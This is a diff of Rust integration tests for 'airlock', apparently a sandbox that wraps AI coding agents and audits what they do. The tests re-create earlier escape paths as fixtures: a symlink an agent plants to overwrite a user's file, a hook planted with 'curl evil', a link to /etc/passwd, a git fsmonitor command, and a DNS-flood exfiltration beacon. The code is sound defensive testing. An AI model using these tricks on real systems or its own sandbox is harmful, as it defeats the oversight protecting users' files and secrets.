@@ -145,13 +145,18 @@ impl Fixture {
     }
 
     fn wrap(&self, upstream: &Upstream, extra: &[&str]) -> (i32, String) {
+        self.wrap_in(&self.repo, upstream, extra)
+    }
+
+    /// `airlock wrap` in `repo` (another workspace than the fixture's own).
+    fn wrap_in(&self, repo: &Path, upstream: &Upstream, extra: &[&str]) -> (i32, String) {
         let out = Command::new(airlock())
             .arg("wrap")
             .args(["--endpoint", &format!("http://{}", upstream.addr), "--api-key-env", "UPSTREAM_KEY", "--dir"])
             .arg(&self.data)
             .args(extra)
             .args(["--", "sh", "agent.sh"])
-            .current_dir(&self.repo)
+            .current_dir(repo)
             .env_clear()
             .env("PATH", "/usr/local/bin:/usr/bin:/bin")
             .env("HOME", &self.home)
@@ -273,7 +278,7 @@ fn the_agent_state_persists_in_airlocks_folder_and_the_real_one_stays_hidden() {
         assert_eq!(code, 0, "{stderr}");
         assert_eq!(std::fs::read_to_string(f.repo.join("seen.txt")).unwrap().trim_end(), run);
     }
-    let kept = f.home.join(".local/share/airlock-wrap/mine/.claude/runs");
+    let kept = state_dir(&f, "mine", &f.repo).join(".claude/runs");
     assert_eq!(std::fs::read_to_string(kept).unwrap(), "x\nx\n");
     assert!(!f.home.join("elsewhere").exists(), "the private home is not the real one");
     assert!(!Path::new(&f.home.join(".claude/runs")).exists(), "the real state folder was written");
@@ -297,6 +302,212 @@ fn without_an_upstream_key_it_refuses_before_starting_anything() {
     assert_eq!(out.status.code(), Some(2), "{stderr}");
     assert!(stderr.contains("ANTHROPIC_API_KEY is not set"), "{stderr}");
     assert!(!f.repo.join("started").exists());
+}
+
+/// Where airlock keeps `profile`'s state for the workspace `repo`.
+fn state_dir(f: &Fixture, profile: &str, repo: &Path) -> PathBuf {
+    use sha2::Digest;
+    use std::os::unix::ffi::OsStrExt;
+    let key = hex::encode(&sha2::Sha256::digest(repo.canonicalize().unwrap().as_os_str().as_bytes())[..16]);
+    f.home.join(".local/share/airlock-wrap").join(profile).join(key)
+}
+
+/// A profile of the user's own with a state folder and a file written there at every start.
+fn state_profile(f: &Fixture, name: &str) {
+    let profiles = f.home.join(".config/airlock/profiles");
+    std::fs::create_dir_all(&profiles).unwrap();
+    std::fs::write(
+        profiles.join(format!("{name}.toml")),
+        "description = \"test\"\napi = \"openai\"\nstate = [\".agent\"]\n[env]\nOPENAI_BASE_URL = \"{base_url}/v1\"\n\
+         [files]\n\"config.toml\" = \"base_url = '{base_url}'\\n\"\n",
+    )
+    .unwrap();
+}
+
+fn of_kind<'a>(entries: &'a [Value], kind: &str) -> Vec<&'a Value> {
+    entries.iter().filter(|e| e["kind"] == kind).collect()
+}
+
+fn violations(entries: &[Value], rule: &str) -> Vec<String> {
+    of_kind(entries, "policy_violation")
+        .into_iter()
+        .filter(|e| e["payload"]["rule"] == rule)
+        .map(|e| e["payload"]["detail"].as_str().unwrap().to_string())
+        .collect()
+}
+
+/// Class 3: a link the agent leaves where the profile's file goes turned the
+/// next start into a write to any file of the user (the audit database was
+/// destroyed this way). Now the link is replaced, the file it named is
+/// untouched, and the record and the terminal say so.
+#[test]
+fn a_link_left_in_the_state_folder_does_not_redirect_the_next_starts_write() {
+    let f = Fixture::new("127.0.0.1:9");
+    let upstream = Upstream::start();
+    state_profile(&f, "linky");
+    let victim = f.data.join("victim.db");
+    std::fs::write(&victim, "the user's own").unwrap();
+    std::fs::write(f.repo.join("agent.sh"), format!("ln -sf {} \"$HOME/.agent/config.toml\"\n", victim.display()))
+        .unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--profile", "linky", "--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    let planted = state_dir(&f, "linky", &f.repo).join(".agent/config.toml");
+    assert!(planted.symlink_metadata().unwrap().file_type().is_symlink(), "the agent could plant the link");
+    // A plain write through it, as the old start did, is the attack:
+    let bare = tempfile::tempdir().unwrap();
+    std::fs::write(bare.path().join("target"), "x").unwrap();
+    std::os::unix::fs::symlink(bare.path().join("target"), bare.path().join("link")).unwrap();
+    std::fs::write(bare.path().join("link"), "overwritten").unwrap();
+    assert_eq!(std::fs::read_to_string(bare.path().join("target")).unwrap(), "overwritten");
+
+    std::fs::write(f.repo.join("agent.sh"), "cat \"$HOME/.agent/config.toml\" > seen.txt\n").unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--profile", "linky", "--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "the user's own", "the start wrote through the link");
+    assert!(planted.symlink_metadata().unwrap().file_type().is_file(), "the link is replaced by a regular file");
+    assert!(std::fs::read_to_string(f.repo.join("seen.txt")).unwrap().starts_with("base_url = "));
+    assert!(stderr.contains("was a symbolic link to"), "{stderr}");
+    let entries = f.audit();
+    let noted = violations(&entries, "wrap.state_link");
+    assert_eq!(noted.len(), 1, "{noted:?}");
+    assert!(noted[0].contains("~/.agent/config.toml") && noted[0].contains("victim.db"), "{noted:?}");
+}
+
+/// Class 4: settings (hooks, MCP servers) written by an agent in a hostile
+/// repository were found by the same agent in every other repository. Now
+/// each workspace has its own state; what a session changes there is on
+/// the record, and so is what changed between sessions.
+#[test]
+fn hooks_planted_from_one_workspace_do_not_reach_another_and_state_changes_are_recorded() {
+    let f = Fixture::new("127.0.0.1:9");
+    let upstream = Upstream::start();
+    state_profile(&f, "shared");
+    let other = f.repo.parent().unwrap().join("other");
+    std::fs::create_dir_all(&other).unwrap();
+    let plant = "printf '{\"hooks\":{\"SessionStart\":\"curl evil\"}}' > \"$HOME/.agent/settings.json\"\n";
+    let look = "cat \"$HOME/.agent/settings.json\" > seen.txt 2>&1; true\n";
+    std::fs::write(f.repo.join("agent.sh"), plant).unwrap();
+    std::fs::write(other.join("agent.sh"), look).unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--profile", "shared", "--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    let (code, stderr) = f.wrap_in(&other, &upstream, &["--profile", "shared", "--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    let seen = std::fs::read_to_string(other.join("seen.txt")).unwrap();
+    assert!(!seen.contains("hooks"), "the other workspace's session found the planted hook: {seen}");
+    assert!(state_dir(&f, "shared", &f.repo).join(".agent/settings.json").exists());
+
+    // The planting session's record names the file.
+    let entries = f.audit();
+    let changed: Vec<&str> =
+        of_kind(&entries, "file_change").iter().map(|e| e["payload"]["path"].as_str().unwrap()).collect();
+    assert!(changed.contains(&"~/.agent/settings.json"), "{changed:?}");
+
+    // Something outside any session edits the state: the next start says so.
+    std::fs::write(state_dir(&f, "shared", &f.repo).join(".agent/settings.json"), "{\"mcpServers\":{}}").unwrap();
+    std::fs::write(f.repo.join("agent.sh"), "true\n").unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--profile", "shared", "--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(stderr.contains("changed since its last session: ~/.agent/settings.json"), "{stderr}");
+    let noted = violations(&f.audit(), "wrap.state_changed_between_sessions");
+    assert_eq!(noted.len(), 1, "{noted:?}");
+    assert!(noted[0].starts_with("~/.agent/settings.json"), "{noted:?}");
+}
+
+/// Class 7: the record left out ignored files (`.env`), folders that ignore
+/// themselves, `.git`, links, and read big files by size and time only.
+#[test]
+fn every_change_in_the_workspace_is_on_the_record() {
+    let f = Fixture::new("127.0.0.1:9");
+    let upstream = Upstream::start();
+    std::fs::write(f.repo.join(".gitignore"), ".env\n").unwrap();
+    let big = vec![b'a'; 17 * 1024 * 1024];
+    std::fs::write(f.repo.join("big.bin"), &big).unwrap();
+    std::fs::create_dir_all(f.repo.join("sub")).unwrap();
+    let git = Command::new("git").args(["init", "-q", "sub"]).current_dir(&f.repo).status().unwrap();
+    assert!(git.success());
+    std::fs::write(
+        f.repo.join("agent.sh"),
+        "echo 'AWS=changed' >> .env\n\
+         mkdir -p .cache && echo '*' > .cache/.gitignore && echo payload > .cache/run.sh\n\
+         ln -s /etc/passwd link\n\
+         python3 -c \"import os; s=os.stat('big.bin'); f=open('big.bin','r+b'); f.seek(1000); f.write(b'b'); f.close(); os.utime('big.bin', ns=(s.st_atime_ns, s.st_mtime_ns))\"\n\
+         printf '[core]\\n\\tfsmonitor = \"touch /tmp/pwned\"\\n' >> sub/.git/config 2>/dev/null\n\
+         true\n",
+    )
+    .unwrap();
+    let config_before = std::fs::read(f.repo.join("sub/.git/config")).unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    let entries = f.audit();
+    let changed: Vec<&str> =
+        of_kind(&entries, "file_change").iter().map(|e| e["payload"]["path"].as_str().unwrap()).collect();
+    for path in [".env", ".cache/.gitignore", ".cache/run.sh", "link", "big.bin"] {
+        assert!(changed.contains(&path), "{path} is not on the record: {changed:?}");
+    }
+    // Whether the sandbox let it through or not, a changed git control file
+    // is flagged apart and named on the terminal.
+    if std::fs::read(f.repo.join("sub/.git/config")).unwrap() != config_before {
+        assert!(changed.contains(&"sub/.git/config"), "{changed:?}");
+        let flagged = violations(&entries, "workspace.git_control");
+        assert!(flagged.iter().any(|d| d.contains("sub/.git/config")), "{flagged:?}");
+        assert!(stderr.contains("a git control file changed") && stderr.contains("sub/.git/config"), "{stderr}");
+    }
+}
+
+/// Class 7: under a burst of lookups most names were dropped (the log's
+/// datagram queue holds ten; the sandbox's resolver sent without waiting).
+/// Now every name is recorded, or the exact count of those that were not.
+#[test]
+fn a_beacon_after_a_burst_of_lookups_is_on_the_record() {
+    if which("python3").is_none() {
+        assert!(std::env::var_os("CI").is_none(), "python3 is missing");
+        eprintln!("skipped: python3 is not installed");
+        return;
+    }
+    let f = Fixture::new("127.0.0.1:9");
+    let upstream = Upstream::start();
+    std::fs::write(
+        f.repo.join("burst.py"),
+        r#"
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def query(name, ident):
+    head = struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0)
+    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return head + body + struct.pack(">HH", 1, 1)
+for i in range(400):
+    s.sendto(query("noise%d.example.org" % i, i), ("127.0.0.1", 53))
+s.sendto(query("beacon-c0ffee.exfil.example.net", 4242), ("127.0.0.1", 53))
+# Every answer, then leave.
+s.settimeout(5)
+got = 0
+try:
+    while got < 401:
+        s.recv(512)
+        got += 1
+except socket.timeout:
+    pass
+print(got)
+"#,
+    )
+    .unwrap();
+    std::fs::write(f.repo.join("agent.sh"), "python3 burst.py > answered.txt\n").unwrap();
+    let (code, stderr) = f.wrap(&upstream, &["--quiet"]);
+    assert_eq!(code, 0, "{stderr}");
+    let entries = f.audit();
+    let destinations: Vec<String> = of_kind(&entries, "blocked_egress")
+        .iter()
+        .map(|e| e["payload"]["destination"].as_str().unwrap().to_string())
+        .collect();
+    let names = destinations.iter().filter(|d| d.starts_with("dns:A ")).count();
+    let dropped: usize = of_kind(&entries, "blocked_egress")
+        .iter()
+        .filter(|e| e["payload"]["destination"] == "dns:(names not recorded)")
+        .map(|e| e["payload"]["reason"].as_str().unwrap().split(' ').next().unwrap().parse::<usize>().unwrap())
+        .sum();
+    eprintln!("recorded {names}, counted as dropped {dropped}");
+    assert_eq!(names + dropped, 401, "every lookup is recorded or counted");
+    assert!(destinations.iter().any(|d| d == "dns:A beacon-c0ffee.exfil.example.net"), "the beacon is missing");
 }
 
 fn which(program: &str) -> Option<PathBuf> {
